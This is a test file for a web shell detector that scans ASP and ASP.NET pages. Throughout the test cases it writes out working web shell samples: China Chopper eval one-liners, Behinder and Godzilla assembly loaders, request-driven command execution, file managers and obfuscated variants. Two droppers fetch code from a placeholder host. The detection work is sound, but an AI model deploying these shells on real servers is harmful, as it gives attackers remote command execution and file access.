"""The classic ASP and ASP.NET reader: each source, sink, decode and family shape with its evidence,
benign look-alikes below the threshold, and hostile input in bounded time. Samples are written here."""

import time

import pytest

from agent.imagegate import webshell
from agent.imagegate.webshell import THRESHOLD, Limits, asp_vbe
from agent.imagegate.webshell.common import Budget
from agent.vocab import Severity


def scan(text, name):
    return webshell.scan(name, text.encode("utf-8") if isinstance(text, str) else text)


def shell(text, name="x.asp"):
    hits = scan(text, name)
    assert hits and hits[0].confidence >= THRESHOLD, hits
    h = hits[0]
    assert h.language == ("asp" if name.endswith(".asp") else "aspx")
    assert h.snippet and len(h.snippet) <= 240 and h.sink
    return h


def benign(text, name="x.asp"):
    hits = scan(text, name)
    assert not webshell.is_shell(hits), hits


# --- classic ASP (VBScript) ------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    'request("x")', 'Request.Form("x")', 'Request.QueryString("x")', 'Request.Cookies("x")',
    'Request.Item("x")', 'Request.ServerVariables("HTTP_X_CODE")',
])
def test_each_vbscript_source_reaches_execute(source):
    h = shell(f"<%\nDim c\nc = {source}\nExecute c\n%>")
    assert h.rule == "asp.request-to-eval" and h.severity == Severity.CRITICAL
    assert h.sink == "Execute/Eval" and source.split("(")[0].lower() in h.source.lower()


@pytest.mark.parametrize("page", [
    '<%eval request("pass")%>',
    '<%execute(request("pass"))%>',
    '<%ExecuteGlobal Request.Form("pass")%>',
    '<%eval(Request(chr(112)&chr(97)&chr(115)&chr(115)))%>',
])
def test_china_chopper_one_liners(page):
    h = shell(page)
    assert h.family == "china-chopper" and h.confidence >= 0.9


def test_chr_folding_builds_the_sink_argument():
    h = shell('<%\nk = Chr(99) & ChrW(&H6D) & Chr(50+50)\nExecute Request(k)\n%>')
    assert 'request("cmd")' in h.snippet.lower()


def test_strreverse_and_replace_constants():
    h = shell('<%\nExecute StrReverse(")""x""(tseuqer lave")\n%>')
    assert h.rule == "asp.request-to-eval"
    h = shell('<%\nExecute Replace("evaXXl requXXest(""x"")", "XX", "")\n%>')
    assert h.rule == "asp.request-to-eval"


def test_wscript_shell_exec():
    h = shell('<%\nSet ws = Server.CreateObject("WScript" & ".Shell")\ncmd = Request.Form("cmd")\n'
              'Set ex = ws.Exec("cmd.exe /c " & cmd)\nResponse.Write ex.StdOut.ReadAll()\n%>')
    assert h.rule == "asp.request-to-exec" and h.sink == "WScript.Shell.Run"


def test_shell_application():
    h = shell('<%\nSet sa = CreateObject("Shell.Application")\n'
              'sa.ShellExecute Request("f"), Request("a"), "", "open", 0\n%>')
    assert h.rule == "asp.request-to-exec"


def test_uploader_writes_form_content_to_a_form_path():
    h = shell('<%\nSet fso = Server.CreateObject("Scripting.FileSystemObject")\n'
              'Set f = fso.CreateTextFile(Request("path"), True)\nf.Write Request("body")\nf.Close\n%>')
    assert h.rule == "asp.request-to-file-write" and h.severity == Severity.HIGH


def test_adodb_stream_save_of_request_bytes_to_a_page():
    h = shell('<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
              's.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile Server.MapPath(Request("n")'
              ' & ".asp"), 2\n%>')
    assert h.rule == "asp.request-to-file-write"


def test_file_manager():
    h = shell('<%\nSet fso = CreateObject("Scripting.FileSystemObject")\np = Request("p")\n'
              'Set d = fso.GetFolder(p)\nIf Request("del") <> "" Then fso.DeleteFile Request("del")\n'
              'If Request("mv") <> "" Then fso.MoveFile Request("mv"), Request("to")\n'
              'If Request("cp") <> "" Then fso.CopyFile Request("cp"), Request("to")\n%>')
    assert h.rule == "asp.file-manager" and h.severity == Severity.HIGH


def test_script_encoded_page_is_decoded():
    # our own encoder run in reverse over the decoder's tables
    plain = 'eval request("z")'
    enc = _encode(plain)
    assert asp_vbe.decode(enc) == plain
    h = shell('<%@ LANGUAGE = VBScript.Encode %><%#@~^AAAAAA==' + enc + 'AAAAAA==^#~@%>')
    assert h.rule == "asp.request-to-eval"


def _encode(text):
    out = []
    for i, ch in enumerate(text):
        col = asp_vbe._COLS[int(asp_vbe._PICK[i % 64])]
        out.append(chr(col.index(ord(ch), 9)) if ch not in "<>@" else ch)
    return "".join(out)


def test_utf7_page():
    h = shell(b'<%@codepage=65000%><%e+x-v+x-a+x-l(+x-r+x-e+x-q+x-u+x-e+x-s+x-t+x-(+ACI-c+ACI)+x-)%>')
    assert h.rule == "asp.request-to-eval"


def test_session_stored_code_and_home_made_decoder():
    h = shell('<%\nSession("k") = Request("k")\nExecute Session("k")\n%>')
    assert h.rule == "asp.request-to-eval"
    h = shell('<%\nFunction d(s)\nFor i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) - 1)\nNext\nd = r\n'
              'End Function\nExecute d("fwbm!sfrvftu)#y#*")\n%>')
    assert h.confidence >= 0.6 and "decoder" not in h.rule


def test_dropper_saves_a_download_as_a_page():
    h = shell('<%\nSet x = CreateObject("Microsoft.XMLHTTP")\nx.Open "GET", "http://example.invalid/a.txt", False\n'
              'x.Send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write x.responseBody\n'
              's.SaveToFile Server.MapPath("b.asp"), 2\n%>')
    assert h.rule == "asp.dropper"


# --- classic ASP (JScript) -------------------------------------------------------------------

def test_jscript_eval_and_alias():
    h = shell('<%@ Language="JScript" %><% eval(Request.Form("c") + ""); %>')
    assert h.rule == "asp.request-to-eval"
    h = shell('<script runat="server" language="JScript">var p = Request.Form("z"); var o = {"E": eval};'
              ' o.E(p + "");</script>')
    assert h.rule in ("asp.eval-alias", "asp.request-to-eval")


def test_jscript_fromcharcode_and_unescape():
    h = shell('<%@ Language="JScript" %><% var f = String.fromCharCode(101, 118, 97, 108);'
              ' eval(unescape("%65%76%61%6c%28%52%65%71%75%65%73%74%2e%46%6f%72%6d%28%22%61%22%29%29")); %>')
    assert h.rule == "asp.request-to-eval" and "inside evaluated constant" in h.detail


# --- ASP.NET ---------------------------------------------------------------------------------

def test_aspx_process_start_info():
    h = shell('<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) {'
              ' string c = Request.Form["c"]; ProcessStartInfo psi = new ProcessStartInfo();'
              ' psi.FileName = "cmd.exe"; psi.Arguments = "/c " + c; Process p = Process.Start(psi); }</script>',
              "x.aspx")
    assert h.rule == "aspx.request-to-exec" and h.sink in ("Process.Start", "ProcessStartInfo")


def test_aspx_server_control_text_is_request_data():
    h = shell('<%@ Page Language="C#" %><script runat="server">void Run(object s, EventArgs e) {'
              ' Process.Start("cmd.exe", "/c " + cmdBox.Text); }</script>'
              '<form runat="server"><asp:TextBox id="cmdBox" runat="server" /></form>', "x.aspx")
    assert h.rule == "aspx.request-to-exec"


def test_aspx_char_casts_and_base64():
    h = shell('<%@ Page Language="C#" %><% string n = "" + (char)99 + (char)109 + (char)100;'
              ' string t = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("Y21kLmV4ZQ=="));'
              ' Process.Start(t, "/c " + Request[n]); %>', "x.aspx")
    assert 'Request["cmd"]' in h.source


def test_behinder_aspx():
    h = shell('<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","0123456789abcdef");'
              ' byte[] k = Encoding.Default.GetBytes(Session[0] + ""), c = Request.BinaryRead(Request.ContentLength);'
              ' Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k)'
              '.TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>', "x.aspx")
    assert h.rule == "aspx.request-to-classload" and h.family == "behinder"


def test_godzilla_aspx():
    h = shell('<%@ Page Language="C#"%><% string key = "3c6e0b8a9c15224a"; string pass = "pass";'
              ' byte[] data = Convert.FromBase64String(Context.Request[pass]);'
              ' data = new'
              ' System.Security.Cryptography.RijndaelManaged().CreateDecryptor(Encoding.Default.GetBytes(key),'
              ' Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);'
              ' if (Context.Session["payload"] == null) { Context.Session["payload"] = (Assembly)typeof(Assembly)'
              '.GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }'
              ' else { object o = ((Assembly)Context.Session["payload"]).CreateInstance("LY");'
              ' o.Equals(data); } %>', "x.aspx")
    assert h.family == "godzilla" or h.rule == "aspx.request-to-classload"


def test_jscript_net_chopper():
    h = shell('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>', "x.aspx")
    assert h.family == "china-chopper"
    h = shell('<%@PAGE LANGUAGE=JSCRIPT%><%var P:String = Request["\\x61\\x62"]; eval(P, "\\x75nsafe");%>', "x.aspx")
    assert h.rule == "aspx.request-to-eval"


def test_codedom_compile():
    h = shell('<%@ Page Language="C#" %><% var p = new Microsoft.CSharp.CSharpCodeProvider();'
              ' var r = p.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(),'
              ' Request.Form["src"]); %>', "x.aspx")
    assert h.rule == "aspx.request-to-eval" and h.sink == "CodeDom compile"


def test_ashx_handler_and_web_method():
    h = shell('<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler {'
              ' public void ProcessRequest(HttpContext context) {'
              ' System.Diagnostics.Process.Start("cmd.exe", "/c " + context.Request["c"]); }'
              ' public bool IsReusable { get { return false; } } }', "x.ashx")
    assert h.rule == "aspx.request-to-exec"
    h = shell('<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : WebService {'
              ' [WebMethod] public string Run(string cmd) { return System.Diagnostics.Process.Start("cmd.exe",'
              ' "/c " + cmd).StandardOutput.ReadToEnd(); } }', "x.asmx")
    assert h.source == "web method parameter"


def test_sql_console():
    h = shell('<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) {'
              ' SqlConnection c = new SqlConnection(); c.ConnectionString = connBox.Text; c.Open();'
              ' SqlCommand q = new SqlCommand(sqlBox.Text, c); q.ExecuteReader(); }</script>'
              '<asp:TextBox id="connBox" runat="server"/><asp:TextBox id="sqlBox" runat="server"/>', "x.aspx")
    assert h.rule == "aspx.sql-console" and h.severity == Severity.HIGH


def test_handler_that_writes_a_classic_shell():
    h = shell('<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {'
              ' public void ProcessRequest(System.Web.HttpContext c) {'
              ' var w = System.IO.File.CreateText(c.Server.MapPath("r.asp"));'
              ' w.Write("<%eval request(\\"r\\")%>"); w.Close(); } public bool IsReusable { get { return true; } } }',
              "x.ashx")
    assert h.rule == "aspx.writes-web-shell"


# --- benign look-alikes ----------------------------------------------------------------------

def test_upload_form_saving_to_app_data_with_a_whitelist_is_benign():
    benign('<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) {'
           ' var f = Request.Files[0]; var ext = System.IO.Path.GetExtension(f.FileName).ToLower();'
           ' if (ext != ".png" && ext != ".jpg") return;'
           ' f.SaveAs(Server.MapPath("~/App_Data/uploads/" + Guid.NewGuid() + ext)); }</script>', "x.aspx")


def test_sql_built_from_a_parameter_is_not_a_console():
    benign('<%\nSet conn = Server.CreateObject("ADODB.Connection")\nconn.Open "Provider=SQLOLEDB;Data Source=db"\n'
           'sql = "select * from news where id=" & CLng(Request("id"))\nSet rs = conn.Execute(sql)\n'
           'rs.Open sql, conn\nResponse.Write rs("title")\n%>')


def test_classic_page_echoing_and_constant_commands_is_benign():
    benign('<%\nResponse.Write "Hello " & Server.HTMLEncode(Request("name"))\n'
           'Set ws = CreateObject("WScript.Shell")\nws.Run "cmd /c cleanup.bat", 0, True\n'
           'If Request.ServerVariables("SCRIPT_NAME") <> "" Then Execute "x = 1"\n%>')


def test_classic_upload_component_is_benign():
    benign('<%\nClass Upload\nSub Save(path)\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
           's.Write Request.BinaryRead(Request.TotalBytes)\ns.SaveToFile path, 2\nEnd Sub\nEnd Class\n'
           'Set u = New Upload\nu.Save Server.MapPath("/data/upload.bin")\n%>')


# --- hostile input ---------------------------------------------------------------------------

@pytest.mark.parametrize("name,data", [
    ("x.asp", b"<%" + b"(" * 200000 + b"%>"),
    ("x.aspx", b'<%@ Page Language="C#" %><% string s = "' + b"A" * (2 * 1024 * 1024 - 60) + b'"; %>'),
    ("x.aspx", bytes(range(256)) * 4000),
    ("x.asp", b'<% x = "unterminated' + b" & y" * 60000),
    ("x.asp", b"<% execute chr(" * 40000),
    ("x.asp", b"#@~^AAAAAA==" + b"@#@&" * 200000),
    ("x.asp", b"<% x = x & " * 40000),
])
def test_hostile_inputs_are_bounded(name, data):
    t = time.process_time()
    webshell.scan(name, data, Limits(max_seconds=2.0))
    assert time.process_time() - t < 6.0


def test_vbe_decoder_is_bounded():
    b = Budget(Limits())
    assert asp_vbe.decode_all("#@~^AAAAAA==" + "x" * 10000, b)


def test_xslt_script_in_a_string():
    h = shell('<%@ Page Language="C#" %><% string x = @"<xsl:stylesheet version=""1.0"" '
              'xmlns:msxsl=""urn:schemas-microsoft-com:xslt""><msxsl:script language=""JScript"" '
              'implements-prefix=""z""><![CDATA[function f() { var c = System.Web.HttpContext.Current;'
              ' eval(c.Request.Item[""a""], ""unsafe""); }]]></msxsl:script></xsl:stylesheet>";'
              ' var t = new System.Xml.Xsl.XslCompiledTransform(); %>', "x.aspx")
    assert h.rule == "aspx.request-to-eval" and "XSLT" in h.detail


def test_jsp_saved_as_asp_goes_to_the_jsp_reader():
    hits = scan('<%@ page language="java" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>', "x.asp")
    assert webshell.is_shell(hits) and hits[0].rule == "jsp.request-to-exec" and hits[0].language == "jsp"


def test_execute_of_a_variable_decoded_at_run_time():
    h = shell('<%\nDim k\nk = "}q%#~<@!)(*&^%$#@!+_}{|:?><~`1"\nk = dec(k)\nExecute k\n'
              'Function dec(s)\nFor i = 1 To Len(s)\ndec = dec & Chr(Asc(Mid(s, i, 1)) Xor 7)\nNext\nEnd Function\n%>')
    assert h.confidence >= 0.6
    h = shell('<%\nc = fetch("http://example.invalid/c.txt")\nExecute c\nFunction fetch(u)\n'
              'Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", u, False\nx.Send\nfetch = x.responseText\n'
              'End Function\n%>')
    assert h.confidence >= 0.75


def test_evaluated_pieces_that_read_the_request():
    h = shell('<%\nSet sc = Server.CreateObject("MSScriptControl.ScriptControl")\nsc.Language = "VBScript"\n'
              'sc.ExecuteStatement "ev" & Chr(&141) & "al(Req" & "uest(""k""))"\n%>')
    assert h.confidence >= 0.8


def test_aspx_file_writes_from_text_boxes():
    h = shell('<%@ Page Language="C#" %><script runat="server">void Save(object s, EventArgs e) {'
              ' System.IO.FileInfo f = new System.IO.FileInfo(pathBox.Text); var w = f.CreateText();'
              ' w.Write(bodyBox.Text); w.Close(); }</script><asp:TextBox id="pathBox" runat="server"/>'
              '<asp:TextBox id="bodyBox" runat="server"/>', "x.aspx")
    assert h.rule == "aspx.request-to-file-write" and h.severity == Severity.HIGH
    h = shell('<%@ Page Language="VB" %><script runat="server">Sub Page_Load(s As Object, e As EventArgs)\n'
              'Dim w As New StreamWriter(Request.Form("path"), True)\nw.Write(Request.Form("c"))\nw.Close\n'
              'End Sub</script>', "x.aspx")
    assert h.rule == "aspx.request-to-file-write"
